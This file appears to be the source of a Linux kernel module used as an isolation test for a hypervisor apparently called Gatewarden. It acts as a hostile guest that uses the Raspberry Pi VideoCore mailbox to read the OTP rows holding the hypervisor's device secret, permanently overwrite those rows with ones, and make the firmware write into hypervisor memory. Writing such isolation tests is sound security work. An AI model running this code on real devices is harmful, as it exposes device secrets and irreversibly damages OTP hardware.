// SPDX-License-Identifier: GPL-2.0
/*
 * gwmbox: the guest kernel, as an attacker, asks the Raspberry Pi's VideoCore firmware for the
 * OTP rows that hold the hypervisor's device secret (docs/threat-model.md, Raspberry Pi 4).
 * Never stays loaded: the verdict is the test's (tests/tests/qemu_rpi4.rs), from the lines it
 * prints and the hypervisor's console.
 */

#include <linux/delay.h>
#include <linux/io.h>
#include <linux/module.h>
#include <linux/slab.h>

static unsigned long hv_write;
module_param(hv_write, ulong, 0444);
MODULE_PARM_DESC(hv_write, "hypervisor physical address the firmware would write its answer to");

static void *buf;

/*
 * The VideoCore mailbox (Raspberry Pis, `mbox` = its guest-physical base): the guest kernel
 * posts raw property messages, as an attacker would, with the mailbox's interrupt off so that
 * the firmware driver does not take the answers. Each message is one line:
 *   benign    firmware revision, from a guest buffer (must be answered);
 *   otp-get   the OTP private-key rows, where the hypervisor's secret lives;
 *   otp-set   overwriting them;
 *   cotp-get, cotp-set  the same with the customer OTP rows (the Pi 3's secret);
 *   hv-buffer the benign message again, but at a hypervisor address (the firmware would write
 *             its answer there).
 */
static unsigned long mbox;
module_param(mbox, ulong, 0444);
MODULE_PARM_DESC(mbox, "guest-physical base of the VideoCore mailbox (0: skip)");

#define MBOX_READ 0x00
#define MBOX_STATUS 0x18
#define MBOX_CONFIG 0x1c
#define MBOX_WRITE 0x20
#define MBOX_EMPTY (1u << 30)

/* Post `bus` on the property channel and wait up to 100 ms for an answer; the word read back. */
static u32 mbox_call(void __iomem *r, u32 bus)
{
	int i;

	iowrite32(bus | 8, r + MBOX_WRITE);
	for (i = 0; i < 100; i++) {
		if (!(ioread32(r + MBOX_STATUS) & MBOX_EMPTY))
			return ioread32(r + MBOX_READ);
		msleep(1);
	}
	return 0;
}

/* `name`-get: read eight OTP rows with tag `get`; `name`-set: program them all ones with the
 * matching set tag (`get` | 0x8000; OTP bits only go 0 -> 1). */
static void otp(void __iomem *r, u32 bus, const char *name, u32 get)
{
	u32 *m = buf;
	u32 got;
	int i;

	memset(m, 0, 64);
	m[0] = 64; m[2] = get; m[3] = 40; m[5] = 0; m[6] = 8;
	got = mbox_call(r, bus);
	pr_info("gwmbox: mbox %s-get: got %#x code %#x tag %#x rows", name, got, m[1], m[4]);
	for (i = 7; i < 15; i++)
		pr_cont(" %08x", m[i]);
	pr_cont("\n");
	memset(m, 0, 64);
	m[0] = 64; m[2] = get | 0x8000; m[3] = 40; m[5] = 0; m[6] = 8;
	for (i = 7; i < 15; i++)
		m[i] = 0xffffffff;
	got = mbox_call(r, bus);
	pr_info("gwmbox: mbox %s-set: got %#x code %#x tag %#x\n", name, got, m[1], m[4]);
}

static void mailbox(void)
{
	u32 *m = buf;
	void __iomem *r = ioremap(mbox, 0x40);
	u32 bus = (u32)virt_to_phys(m) | 0xc0000000;
	u32 config, got;

	if (!r) {
		pr_info("gwmbox: mbox ioremap failed\n");
		return;
	}
	config = ioread32(r + MBOX_CONFIG);
	iowrite32(0, r + MBOX_CONFIG);
	/* benign: GET_FIRMWARE_REVISION. */
	memset(m, 0, 64);
	m[0] = 28; m[2] = 0x00000001; m[3] = 4;
	got = mbox_call(r, bus);
	pr_info("gwmbox: mbox benign: got %#x (posted %#x) code %#x tag %#x value %#x\n",
		got, bus | 8, m[1], m[4], m[5]);
	/* The private-key rows (the Pi 4's secret) and the customer rows (the Pi 3's). */
	otp(r, bus, "otp", 0x00030081);
	otp(r, bus, "cotp", 0x00030021);
	/* hv-buffer: the benign message posted at a hypervisor address. */
	got = mbox_call(r, (u32)hv_write | 0xc0000000);
	pr_info("gwmbox: mbox hv-buffer: got %#x\n", got);
	iowrite32(config, r + MBOX_CONFIG);
	iounmap(r);
}

static int __init gwmbox_init(void)
{
	if (!mbox)
		return -EINVAL;
	buf = kzalloc(4096, GFP_KERNEL);
	if (!buf)
		return -ENOMEM;
	mailbox();
	kfree(buf);
	pr_info("gwmbox: done\n");
	return -ECANCELED;
}

module_init(gwmbox_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Gatewarden isolation test: the guest kernel asks the VideoCore mailbox for the OTP secret");
